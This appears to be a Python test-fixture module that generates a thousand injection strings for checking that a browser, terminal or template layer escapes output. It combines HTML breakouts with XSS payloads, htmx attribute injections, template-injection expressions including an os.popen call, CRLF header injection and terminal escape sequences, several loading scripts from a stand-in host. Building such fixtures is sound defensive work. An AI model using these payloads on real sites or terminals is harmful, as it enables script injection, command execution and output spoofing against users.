"""A thousand texts of somebody who wants a browser, a terminal or a template to take them for more than text.

Each is a way out of where it may stand, then something to do, then a way to write both. The numbers of ways have
no common divisor, so the first thousand differ in at least one of the three, and as many texts in a row as the
longest list has have every way at least once.
"""

from __future__ import annotations

import html
import shlex
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

COUNT = 1_000
CANARY = "taken"
"""Stands in each text: in what it asks for, sets, names or says."""

BREAKOUTS = (
    "", '">', "'>", "\"'>", "</title>", "</script>", "</style>", "</pre></div>", "</code></p>", "</span></span></pre>",
    "-->", "]]>", "</option></select>", "<!--", '<a title="', "<pre ", '" ', "' ", "</noscript>", "</template></svg>",
    "<plaintext>", "<![CDATA[", "</textarea></button></form>",
)  # fmt: skip

DEEDS = (
    "<script>window.taken=1;alert('taken-0000')</script>",
    "<script src=//taken.invalid/0000.js></script>",
    "<script src=/taken/0000 type=module></script>",
    '<img src=/taken/0000 onerror="window.taken=1">',
    "<svg onload=alert('taken-0000')>",
    "<svg><script>alert('taken-0000')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('taken-0000')\"><text>x</text></a></svg>",
    "<svg><use href=/taken/0000#x /></svg>",
    "<svg><animate onbegin=alert('taken-0000') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=/taken/0000 onerror=alert(1)>",
    '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(\'taken-0000\')">x',
    "<iframe srcdoc=\"<script>parent.taken=1;'0000'</script>\"></iframe>",
    "<iframe src=/taken/0000></iframe>",
    "<object data=/taken/0000></object>",
    "<embed src=/taken/0000>",
    "<video autoplay><source src=/taken/0000 onerror=alert(1)></video>",
    "<details open ontoggle=alert('taken-0000')>x</details>",
    "<input autofocus onfocus=alert('taken-0000')>",
    '<meta http-equiv=refresh content="0;url=/taken/0000">',
    '<meta http-equiv="Set-Cookie" content="taken=0000">',
    "<base href=//taken.invalid/0000/>",
    "<link rel=stylesheet href=/taken/0000>",
    "<link rel=prefetch href=//taken.invalid/0000>",
    '<style>@import "/taken/0000";*{display:none}</style>',
    '<b style="background:url(/taken/0000);position:fixed;inset:0">x</b>',
    '<b id=taken-0000 hx-get="/taken/0000" hx-trigger="load">x</b>',
    '<b data-hx-post="/taken/0000" data-hx-trigger="load">x</b>',
    '<b hx-action="/taken/0000" hx-method="post" hx-trigger="load, every 1s">x</b>',
    '<b hx-on="load: window.taken=1" hx-on:htmx:after:init="window.taken=\'0000\'">x</b>',
    '<div id="log" hx-swap-oob="true">taken-0000</div>',
    '<i hx-swap-oob="delete target:\'main\'" class="taken-0000"></i>',
    '<hx-partial hx-target="body" hx-swap="innerHTML">taken-0000</hx-partial>',
    '<template hx type="partial" hx-target="#status">taken-0000</template>',
    '<b hx-vals="js:window.taken=1" hx-get="/taken/0000" hx-trigger="load">x</b>',
    "<a href=\"javascript:alert('taken-0000')\" accesskey=x autofocus>x</a>",
    "javascript:alert('taken-0000')//",
    "<form action=//taken.invalid/0000><button>Start",
    '<button formaction="/taken/0000" form="x">Stop</button>',
    '<input name="_token" value="taken-0000" form="x">',
    "<title>taken-0000</title><h1>taken</h1>",
    "{{ cycler.__init__.__globals__.os.popen('echo taken-0000').read() }}",
    "{% include '/etc/hostname' %}{{ 7 * 7 }}taken-0000{% raw %}",
    "{{ request.application }}${{ 7 * 7 }}#{ 7 * 7 }<%= 7 * 7 %>taken-0000",
    '<!--#exec cmd="echo taken-0000" --><?php echo 1; ?>',
    '<x-taken onclick=alert(0000) onmouseover=alert(1) tabindex=0 id="poll">x</x-taken>',
    "<noscript><p title=\"</noscript><img src=/taken/0000 onerror=alert(1)>\">",
    "<body onload=alert('taken-0000') onpageshow=alert(1)><frameset onload=alert(1)>",
)  # fmt: skip

Way = Callable[[str], str]


def _same(text: str) -> str:
    return text


def _swapped(old: str, new: str) -> Way:
    return lambda text: text.replace(old, new)


def _around(before: str, after: str = "") -> Way:
    return lambda text: f"{before}{text}{after}"


def _each(kind: str) -> Way:
    """Every character that means something to HTML in another spelling."""
    return lambda text: "".join(kind.format(ord(each)) if each in "<>\"'&" else each for each in text)


def _mixed(text: str) -> str:
    return "".join(each.upper() if place % 2 else each.lower() for place, each in enumerate(text))


def _nothing_but(text: str) -> Way:
    return lambda _: text


WRITTEN: tuple[Way | tuple[Way, Way], ...] = (
    _same,
    str.upper,
    _mixed,
    _swapped(" ", "\n"),
    _swapped(" ", "\t"),
    _swapped(" ", "/"),
    (_swapped(" ", "\f"), _swapped(" ", "␌")),
    (_swapped(" ", "\v"), _swapped(" ", "␋")),
    (_swapped(" ", "\r\n"), _swapped(" ", "\n")),
    (_swapped("<", "<\0"), _swapped("<", "<␀")),
    (_around("\0"), _around("␀")),
    _swapped("<", "<<"),
    _swapped("script", "scr<script>ipt"),
    html.escape,
    _each("&#{};"),
    _each("&#x00000{:x}"),
    quote,
    lambda text: quote(quote(text)),
    _swapped("<", "\\u003c"),
    _swapped("<", "\\x3c"),
    _swapped("<", "+ADw-"),
    _swapped("<", "＜"),
    (_around("\u202e", "\u202c"), _around("⟨U+202E⟩", "⟨U+202C⟩")),
    (_swapped("<", "<\u2066"), _swapped("<", "<⟨U+2066⟩")),
    _swapped("<", "<\u200b"),
    _around("\ufeff"),
    (
        _around("x\r\nContent-Type: text/html\r\nSet-Cookie: taken=1\r\n\r\n"),
        _around("x\nContent-Type: text/html\nSet-Cookie: taken=1\n\n"),
    ),
    (_swapped(" ", "\u2028"), _swapped(" ", "⟨U+2028⟩")),
    (_swapped(" ", "\x85"), _swapped(" ", "⟨U+0085⟩")),
    (_swapped("<", "\x1b[1;31m<\x1b[0m"), _same),
    (_around("\x1b]8;;javascript:window.taken=1\x1b\\", "\x1b]8;;\x1b\\"), _same),
    (lambda text: f"\x1b]8;;{text}\x07a link\x1b]8;;\x07", _nothing_but("a link")),
    (lambda text: f"\x1b]0;{text}\x07{text}", _same),
    (lambda text: f"\x1bP{text}\x1b\\{text}", _same),
    (_around("\x1b]8;;"), _around("8;;")),
    (_around("\x1b[2J\x1b[1;1H\x1b[?1049h"), _same),
    (_around("harmless\r"), _same),
    (_around("harmless\b\b\b"), _around("harmless␈␈␈")),
    (_around("\x9b31m"), _around("⟨U+009B⟩31m")),
    (_around("\x9d8;;taken\x9c", "\x9d8;;\x9c"), _around("⟨U+009D⟩8;;taken⟨U+009C⟩", "⟨U+009D⟩8;;⟨U+009C⟩")),
    _around("{{ ", " }}"),
)
"""How it is written; of two, the second is what a page shows of it as output."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """One text as it is ``written``, and as a page shows it where it is output (``shown``), with as many ``\\n``."""

    written: str
    shown: str

    @property
    def value(self) -> str:
        """It as a value or name: those have no NUL, which is refused."""
        return self.written.replace("\0", "")

    @property
    def unfinished(self) -> tuple[str, str]:
        """It without ends of lines, for a line that has none: as written and as shown."""
        written = self.written.replace("\r\n", "\n").removeprefix("harmless\r").replace("\n", " ")
        return written, self.shown.replace("\n", " ")


def _hostile(number: int) -> Hostile:
    way = WRITTEN[number % len(WRITTEN)]
    write, show = way if isinstance(way, tuple) else (way, way)
    deed = DEEDS[number % len(DEEDS)].replace("0000", f"{number:04}")
    text = BREAKOUTS[number % len(BREAKOUTS)] + deed
    return Hostile(write(text), show(text))


HOSTILE = tuple(_hostile(number) for number in range(COUNT))

EVERY_WAY = HOSTILE[: max(len(BREAKOUTS), len(DEEDS), len(WRITTEN))]
"""Few, for where a text takes a page of its own: each breakout, deed and way to write is among them."""


def on_page(text: str) -> str:
    """What a page that has ``text`` in it as text, or in an attribute, gives back: HTML knows one end of lines only."""
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")


def receipt(argv: list[str]) -> str:
    """What a page shows of an argv that has such texts."""
    return on_page(shlex.join(argv))


def batches(size: int) -> list[tuple[Hostile, ...]]:
    """All of them, ``size`` at a time."""
    return [HOSTILE[first : first + size] for first in range(0, COUNT, size)]
